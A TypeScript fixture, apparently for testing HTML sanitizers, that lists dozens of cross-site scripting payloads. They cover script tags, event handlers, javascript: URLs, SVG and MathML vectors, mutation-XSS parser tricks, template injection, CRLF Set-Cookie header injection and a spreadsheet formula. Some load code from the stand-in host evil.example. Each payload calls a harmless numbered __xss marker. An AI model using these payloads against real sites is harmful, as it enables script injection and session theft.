/** Texts that try to run a script wherever they are shown; each calls `__xss` with its own number, from 1. */

export interface HostileText {
  readonly kind:
    | 'classic'
    | 'attribute'
    | 'address'
    | 'drawing'
    | 'mutation'
    | 'template'
    | 'data'
    | 'header'
    | 'spreadsheet';
  readonly text: string;
}

const kinds: Readonly<Record<HostileText['kind'], readonly string[]>> = {
  classic: [
    '<script>RUN</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>RUN</scr</script>ipt>',
    '"><script>RUN</script>',
    "'><script>RUN</script>",
    '<script/x>RUN</script >',
    '</title><script>RUN</script>',
    '</textarea><script>RUN</script>',
    '</style><script>RUN</script>',
    '--><script>RUN</script><!--',
    ']]><script>RUN</script>',
    '</option></select><script>RUN</script>',
  ],
  attribute: [
    '<img src=x onerror=RUN>',
    '<svg/onload=RUN>',
    '<body onload=RUN>',
    '<input autofocus onfocus=RUN>',
    '<details open ontoggle=RUN>',
    '<video><source onerror=RUN></video>',
    '<p onanimationstart=RUN style=animation-name:x>',
    '" autofocus onfocus="RUN',
    "' onmouseover='RUN",
    '` onmouseover=`RUN',
    'x onerror=RUN',
    '<a href=x onclick=RUN>x</a>',
    '<iframe srcdoc="<script>parent.RUN</script>">',
    '<object data="data:text/html,<script>RUN</script>">',
  ],
  address: [
    'javascript:RUN',
    'JaVaScRiPt:RUN',
    'java\tscript:RUN',
    '\u0001javascript:RUN',
    'javascript://%0aRUN',
    '<a href="javascript:RUN">x</a>',
    '<a href="&#106;avascript&colon;RUN">x</a>',
    'data:text/html,<script>RUN</script>',
    'vbscript:RUN',
    '<form action=javascript:RUN><button>x</button></form>',
    '<meta http-equiv=refresh content="0;url=javascript:RUN">',
    '<base href="https://evil.example/">',
    '<embed src="javascript:RUN">',
  ],
  drawing: [
    '<svg><script>RUN</script></svg>',
    '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
    '<svg><animate onbegin=RUN attributeName=x></svg>',
    '<svg><set attributeName=href to=javascript:RUN></svg>',
    '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
    '<math><mi xlink:href="javascript:RUN">x</mi></math>',
  ],
  mutation: [
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">',
    '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
    '<template><script>RUN</script></template>',
  ],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack in plain text, not a template
  template: ["{{constructor.constructor('RUN')()}}", '${RUN}', '<%= RUN %>'],
  data: ['</script><script>RUN</script>', '"};RUN;//', '\\");RUN;//', '<!--<script>RUN//'],
  header: ['x\r\nSet-Cookie: xss=1\r\n\r\n<script>RUN</script>', 'x%0d%0aSet-Cookie:%20xss=1'],
  spreadsheet: ['=HYPERLINK("javascript:RUN";"x")'],
};

/** All texts, in which `RUN` is replaced by the call with the text's number. */
export const hostileTexts: readonly HostileText[] = Object.entries(kinds)
  .flatMap(([kind, texts]) => texts.map((text) => ({ kind: kind as HostileText['kind'], text })))
  .map(({ kind, text }, at) => ({ kind, text: text.replaceAll('RUN', `__xss(${at + 1})`) }));
